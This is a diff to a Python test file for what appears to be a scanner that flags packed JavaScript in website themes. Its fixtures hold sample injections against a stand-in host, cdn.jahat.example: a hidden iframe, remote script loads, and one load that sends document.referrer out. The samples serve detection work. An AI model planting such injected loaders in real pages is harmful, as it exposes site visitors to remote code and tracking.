@@ -50,10 +50,10 @@ HANDED_OVER = (
 )
 FRAME = "f=document.createElement(\\'iframe\\');f.src=\\'https://cdn.jahat.example/k.html\\';"
 PACKED_ACTS = [
-    # What is packed and makes a frame, runs a program, or looks at who comes is no theme's news,
+    # What is packed and makes a frame or looks at who comes is no theme's news,
     # whatever a comment says and whichever elements of the page it names.
     packed(FRAME + "document.body.appendChild(f)", ["a"]),
-    packed("$(\\'.menu\\').hide();$.getScript(\\'https://cdn.jahat.example/k.php\\')", ["a"]),
+    packed("$(\\'.menu\\').hide();" + FRAME + "$(\\'body\\').append(f)", ["a"]),
     packed("$.getScript(\\'https://cdn.jahat.example/k.js?\\'+document.referrer)", ["a"]),
     packed("navigator.userAgent;$.getScript(\\'https://cdn.jahat.example/k.js\\')", ["a"]),
 ]
@@ -264,6 +264,20 @@ def test_a_packed_theme_by_what_the_page_has_from_its_maker(page: str, message: 
     assert on_page(counted, page, markup).message == message
     # That it loads a script for everybody proves nothing by itself.
     assert on_page(news("cdn.temaku.example"), page, markup).message == "look"
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "document.write(\\'<script src=https://cdn.temaku.example/a.js><\\'+\\'/script>\\')",
+        "var o={u:\\'https://cdn.temaku.example/a.js\\'};$(\\'.menu\\').on(\\'x\\',o);"
+        "$.getScript(o.u)",
+        "function m(u){var s=document.createElement(\\'script\\');s.src=u;d.append(s)}"
+        "m(\\'https://cdn.temaku.example/a.php?t=1\\')",
+    ],
+)
+def test_however_a_packed_theme_loads_its_makers_script(source: str) -> None:
+    assert on_page(packed(source, ["a"]), "").message == "look"
 
 
 def test_a_packed_script_from_a_host_of_the_trade() -> None:
